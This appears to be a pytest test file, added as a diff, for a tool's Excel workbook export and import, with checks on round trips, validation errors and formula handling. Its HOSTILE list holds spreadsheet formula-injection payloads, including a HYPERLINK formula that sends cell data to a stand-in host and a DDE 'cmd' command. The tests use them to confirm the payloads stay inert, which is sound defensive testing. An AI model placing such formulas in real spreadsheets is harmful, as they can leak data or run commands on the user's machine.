@@ -1,0 +1,382 @@
+"""The blueprint as an Excel workbook: what a person sees in it, the exact round trip, and
+every way a workbook can be broken (each refused by sheet, row and column, nothing read)."""
+
+import datetime
+
+import openpyxl
+import pytest
+
+from blueprint.storage import XlsxError, load_blueprint
+from blueprint.storage.tables import export_xlsx, import_xlsx
+from blueprint.storage.tables.xlsx_codec import MAX_CELL_TEXT, escape, unescape
+from tests.factories import evidence_blueprint, future_blueprint, preferences_blueprint
+
+SHEET_ORDER = [
+    "Touchpoints",
+    "Frictions",
+    "Improvements",
+    "Flows",
+    "Stages",
+    "Channels",
+    "Personas",
+    "Preferred channels",
+    "Contact reasons",
+    "Measures",
+    "Evidence",
+    "Comments",
+    "Conflicts",
+    "Blueprint",
+]
+HOSTILE = [
+    '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "\n=cmd|' /C calc'!A0",
+    "'=already quoted",
+    "'",
+]
+
+
+def cells(path) -> dict[str, list[list]]:
+    """Every sheet's values, as openpyxl reads them (formulas as their text)."""
+    workbook = openpyxl.load_workbook(path)
+    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in workbook}
+
+
+def column(workbook, sheet, name):
+    ws = workbook[sheet]
+    header = [c.value for c in ws[1]]
+    return [row[header.index(name)].value for row in ws.iter_rows(min_row=2)]
+
+
+@pytest.fixture
+def exported(tmp_path, sample_path):
+    path = tmp_path / "blueprint.xlsx"
+    export_xlsx(load_blueprint(sample_path), path)
+    return path
+
+
+def test_every_sample_comes_back_exactly(sample_path, tmp_path):
+    original = load_blueprint(sample_path)
+    export_xlsx(original, tmp_path / "a.xlsx")
+    assert import_xlsx(tmp_path / "a.xlsx") == original
+
+
+def test_a_workbook_read_and_written_again_holds_the_same_cells(exported, tmp_path):
+    export_xlsx(import_xlsx(exported), tmp_path / "again.xlsx")
+    assert cells(tmp_path / "again.xlsx") == cells(exported)
+
+
+@pytest.mark.parametrize(
+    "make", [future_blueprint, preferences_blueprint, evidence_blueprint], ids=lambda f: f.__name__
+)
+def test_future_values_preferences_evidence_and_comments_come_back(make, tmp_path):
+    original = make()
+    export_xlsx(original, tmp_path / "b.xlsx")
+    assert import_xlsx(tmp_path / "b.xlsx") == original
+
+
+def test_one_sheet_per_kind_with_a_frozen_bold_header_and_set_widths(exported):
+    workbook = openpyxl.load_workbook(exported)
+    assert workbook.sheetnames == SHEET_ORDER
+    for ws in workbook:
+        assert ws.freeze_panes == "A2", ws.title
+        assert all(cell.font.bold for cell in ws[1]), ws.title
+        assert ws.column_dimensions["A"].width > 8, ws.title
+    touchpoints = workbook["Touchpoints"]
+    header = [c.value for c in touchpoints[1]]
+    assert header[:4] == ["id", "title", "stage", "channel"]
+    assert touchpoints.column_dimensions["B"].width == 30  # the title
+
+
+def test_columns_with_fixed_choices_offer_them_as_drop_downs(exported):
+    workbook = openpyxl.load_workbook(exported)
+
+    def offered(sheet, name):
+        ws = workbook[sheet]
+        letter = openpyxl.utils.get_column_letter([c.value for c in ws[1]].index(name) + 1)
+        found = [v for v in ws.data_validations.dataValidation if f"{letter}2:" in str(v.sqref)]
+        assert found, f"{sheet}.{name} has no drop-down"
+        return found[0]
+
+    kind = offered("Frictions", "kind")
+    assert kind.type == "list" and kind.formula1 == '"hesitation,slowdown,disruption,failure"'
+    assert offered("Frictions", "gives_up").formula1 == '"yes,no"'
+    assert offered("Improvements", "effort").formula1 == '"1,2,3,5,8"'
+    assert offered("Channels", "kind").formula1.count(",") == 4
+    severity = offered("Frictions", "severity")
+    assert (severity.type, severity.formula1, severity.formula2) == ("whole", "1", "4")
+    stage = offered("Touchpoints", "stage")  # the names in the Stages sheet
+    assert stage.type == "list" and stage.formula1.startswith("'Stages'!$B$2:$B$")
+
+
+def test_names_are_shown_where_a_person_reads_them(exported, sample_path):
+    bp = load_blueprint(sample_path)
+    workbook = openpyxl.load_workbook(exported)
+    stages = {s.id: s.name for s in bp.stages}
+    assert column(workbook, "Touchpoints", "stage") == [stages[t.stage_id] for t in bp.touchpoints]
+    titles = {t.id: t.title for t in bp.touchpoints}
+    assert column(workbook, "Frictions", "touchpoint") == [
+        titles[f.touchpoint_id] for f in bp.frictions
+    ]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_formula_like_text_is_an_inert_string_and_comes_back_exactly(text, tmp_path):
+    bp = future_blueprint()
+    bp.touchpoints[0].title = text
+    bp.touchpoints[0].notes = text
+    bp.stages[0].name = text  # a name other cells refer to
+    path = tmp_path / "hostile.xlsx"
+    export_xlsx(bp, path)
+    workbook = openpyxl.load_workbook(path)
+    for ws in workbook:
+        for row in ws.iter_rows():
+            assert all(c.data_type != "f" for c in row), ws.title
+    title = workbook["Touchpoints"]["B2"]
+    assert title.data_type == "s" and title.value.startswith("'")
+    assert import_xlsx(path) == bp
+
+
+def test_text_that_xml_cannot_hold_comes_back_exactly(tmp_path):
+    bp = future_blueprint()
+    odd = ["a\rb\r\nc", "bell\x07 and null\x00", "_x0041_ is not A", " ", "\n", "\ufffe", "é😀"]
+    for touchpoint, text in zip(bp.touchpoints, odd, strict=False):
+        touchpoint.notes = text
+    bp.touchpoints[0].customer_action = "_x005F_x0041_"
+    export_xlsx(bp, tmp_path / "odd.xlsx")
+    assert import_xlsx(tmp_path / "odd.xlsx") == bp
+    # What Excel shows is the text itself, not the escapes.
+    assert escape("a\rb") == "a_x000D_b" and unescape("a_x000D_b") == "a\rb"
+
+
+def test_a_text_too_long_for_an_excel_cell_is_refused_by_row_and_column(tmp_path):
+    bp = future_blueprint()
+    bp.touchpoints[1].notes = "x" * (MAX_CELL_TEXT + 1)
+    with pytest.raises(XlsxError) as caught:
+        export_xlsx(bp, tmp_path / "long.xlsx")
+    assert "Touchpoints row 3, column 'notes'" in str(caught.value)
+    assert "32,767" in str(caught.value) and not (tmp_path / "long.xlsx").exists()
+
+
+# --- what a person does to the workbook -----------------------------------------------------
+
+
+def edit(path, change):
+    workbook = openpyxl.load_workbook(path)
+    change(workbook)
+    workbook.save(path)
+    return path
+
+
+def rows_of(workbook, sheet):
+    ws = workbook[sheet]
+    header = [c.value for c in ws[1]]
+    return ws, {name: i + 1 for i, name in enumerate(header)}
+
+
+@pytest.fixture
+def small(tmp_path):
+    path = tmp_path / "small.xlsx"
+    export_xlsx(future_blueprint(), path)
+    return path
+
+
+def test_a_row_added_by_hand_gets_an_id_and_its_stage_by_name(small):
+    def add(workbook):
+        ws, at = rows_of(workbook, "Touchpoints")
+        ws.append(
+            {at["title"]: "Chat about the date", at["stage"]: "install", at["channel"]: "SMS"}
+        )
+
+    bp = import_xlsx(edit(small, add))
+    added = bp.touchpoints[-1]
+    assert added.title == "Chat about the date" and len(added.id) == 32
+    assert (added.stage_id, added.channel_id) == ("s2", "sms")
+
+
+def test_numbers_and_dates_typed_in_a_spreadsheet_are_read(small):
+    def type_in(workbook):
+        ws, at = rows_of(workbook, "Measures")
+        ws.append(
+            {
+                at["touchpoint"]: "Order online",
+                at["name"]: "Visits",
+                at["value"]: "1250.5",
+                at["date"]: datetime.date(2026, 3, 31),
+            }
+        )
+        ws.append({at["name"]: "NPS", at["value"]: -12, at["date"]: "2026-04-30"})
+
+    bp = import_xlsx(edit(small, type_in))
+    visits, nps = bp.measures[-2:]
+    assert (visits.touchpoint_id, visits.value, visits.date) == ("t1", 1250.5, "2026-03-31")
+    assert (nps.touchpoint_id, nps.value, nps.date) == (None, -12.0, "2026-04-30")
+
+
+def problems(path) -> list[str]:
+    with pytest.raises(XlsxError) as caught:
+        import_xlsx(path)
+    assert str(caught.value).startswith(str(path))
+    return caught.value.problems
+
+
+def test_every_bad_cell_is_named_by_sheet_row_and_column_at_once(small):
+    def spoil(workbook):
+        ws, at = rows_of(workbook, "Touchpoints")
+        ws.cell(2, at["emotion"], 5)
+        ws.cell(3, at["stage"], "Nowhere")
+        ws, at = rows_of(workbook, "Frictions")
+        ws.cell(2, at["touchpoint_id"], "t404")
+        ws.cell(3, at["touchpoint"], "Order online")  # not the touchpoint its id names
+        ws.cell(3, at["gives_up"], "maybe")
+
+    found = problems(edit(small, spoil))
+    assert (
+        found[0]
+        == "Touchpoints row 2, column 'emotion': must be a whole number from -2 to 2 (got '5')"
+    )
+    assert found[1].startswith("Touchpoints row 3, column 'stage': no stage is named 'Nowhere'")
+    assert "'Order', 'Install'" in found[1]
+    assert any(
+        p.startswith("Frictions row 2, column 'touchpoint_id': no touchpoint has") for p in found
+    )
+    assert any(
+        p.startswith("Frictions row 3, column 'touchpoint_id': is the touchpoint") for p in found
+    )
+    assert "Frictions row 3, column 'gives_up': must be yes or no (got 'maybe')" in found
+
+
+def test_a_duplicate_id_is_named_by_its_row(small):
+    def duplicate(workbook):
+        ws, at = rows_of(workbook, "Stages")
+        ws.cell(3, at["id"], "s1")
+
+    assert problems(edit(small, duplicate)) == [
+        "Stages row 3, column 'id': uses the same id as stage \"Order\"; every id must be "
+        "unique in the file"
+    ]
+
+
+def test_a_formula_in_a_cell_is_refused_by_row_and_column(small):
+    def formula(workbook):
+        ws, at = rows_of(workbook, "Touchpoints")
+        ws.cell(3, at["title"], '=B2&" again"')
+        ws, at = rows_of(workbook, "Channels")
+        ws.cell(2, at["cost_per_contact"], "=2*3")
+
+    # Only the two cells: the touchpoints in the channel of the refused row are not
+    # reported again for naming it.
+    found = problems(edit(small, formula))
+    assert len(found) == 2
+    assert found[0].startswith(
+        "Channels row 2, column 'cost_per_contact': holds a formula (=2*3); blueprint reads "
+        "values, not formulas"
+    )
+    assert found[1].startswith("Touchpoints row 3, column 'title': holds a formula (=B2&")
+
+
+def test_an_error_value_is_refused(small):
+    def error(workbook):
+        ws, at = rows_of(workbook, "Frictions")
+        ws.cell(2, at["frequency_count"], "#N/A")
+
+    assert problems(edit(small, error)) == [
+        "Frictions row 2, column 'frequency_count': holds the error value #N/A; put a value "
+        "there, or leave it empty"
+    ]
+
+
+def test_merged_cells_are_refused_with_their_range(small):
+    def merge(workbook):
+        workbook["Touchpoints"].merge_cells("C2:C4")
+
+    assert problems(edit(small, merge)) == [
+        "Touchpoints: cells C2:C4 are merged; unmerge them and fill in every row (a merged "
+        "cell holds its value in its first row only)"
+    ]
+
+
+def test_a_date_typed_as_text_in_another_order_is_refused(small):
+    def date_as_text(workbook):
+        ws, at = rows_of(workbook, "Measures")
+        ws.append({at["name"]: "NPS", at["value"]: 31, at["date"]: "31/12/2025"})
+
+    assert problems(edit(small, date_as_text)) == [
+        "Measures row 2, column 'date': must be a date: a date cell, or text written "
+        "YYYY-MM-DD such as 2026-10-31 (got '31/12/2025')"
+    ]
+
+
+def test_a_missing_sheet_is_named(small):
+    def drop(workbook):
+        del workbook["Flows"]
+
+    found = problems(edit(small, drop))
+    assert len(found) == 1 and "has no sheet 'Flows'" in found[0]
+
+
+def test_a_workbook_of_something_else_is_not_taken_for_a_blueprint(tmp_path):
+    path = tmp_path / "calls.xlsx"
+    workbook = openpyxl.Workbook()
+    workbook.active.append(["touchpoint", "calls"])
+    workbook.save(path)
+    assert "is not a workbook exported by blueprint" in problems(path)[0]
+    assert "'Sheet'" in problems(path)[0] and "import-metrics" in problems(path)[0]
+
+
+def test_a_misspelt_column_is_reported_not_silently_dropped(small):
+    def misspell(workbook):
+        ws, at = rows_of(workbook, "Touchpoints")
+        ws.cell(1, at["emotion"], "emotoin")
+
+    assert problems(edit(small, misspell)) == [
+        "Touchpoints: column 'emotoin' is not one blueprint reads; did you mean 'emotion'?"
+    ]
+
+
+@pytest.mark.parametrize(
+    ("data", "words"),
+    [
+        (b"id,title\n1,a\n", "is not an Excel workbook (.xlsx): it is not a zip archive"),
+        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "is an old-style Excel file (.xls)"),
+        (b"PK\x05\x06" + b"\0" * 18, "is not an Excel workbook"),
+    ],
+    ids=["text", "xls", "empty-zip"],
+)
+def test_files_that_are_not_workbooks(tmp_path, data, words):
+    path = tmp_path / "book.xlsx"
+    path.write_bytes(data)
+    assert words in problems(path)[0]
+
+
+def test_a_missing_file_says_so(tmp_path):
+    assert problems(tmp_path / "none.xlsx") == ["cannot open: there is no such file"]
+
+
+@pytest.mark.slow
+def test_a_formula_in_row_100000_is_found_and_nothing_is_read(tmp_path):
+    """A sheet of 100,000 rows is read in one pass, to its last row."""
+    small = tmp_path / "small.xlsx"
+    export_xlsx(future_blueprint(), small)
+    source = openpyxl.load_workbook(small, read_only=True)
+    workbook = openpyxl.Workbook(write_only=True)
+    for sheet in source:
+        target = workbook.create_sheet(sheet.title)
+        for row in sheet.iter_rows(values_only=True):
+            target.append(row)
+        if sheet.title == "Measures":
+            for i in range(99_998):
+                target.append([None, "t3", None, "Calls", i])
+            target.append([None, "t3", None, "Calls", "=1/0"])
+    source.close()
+    path = tmp_path / "large.xlsx"
+    workbook.save(path)
+    assert problems(path) == [
+        "Measures row 100000, column 'value': holds a formula (=1/0); blueprint reads values, "
+        "not formulas: copy the column and paste it back as values only"
+    ]
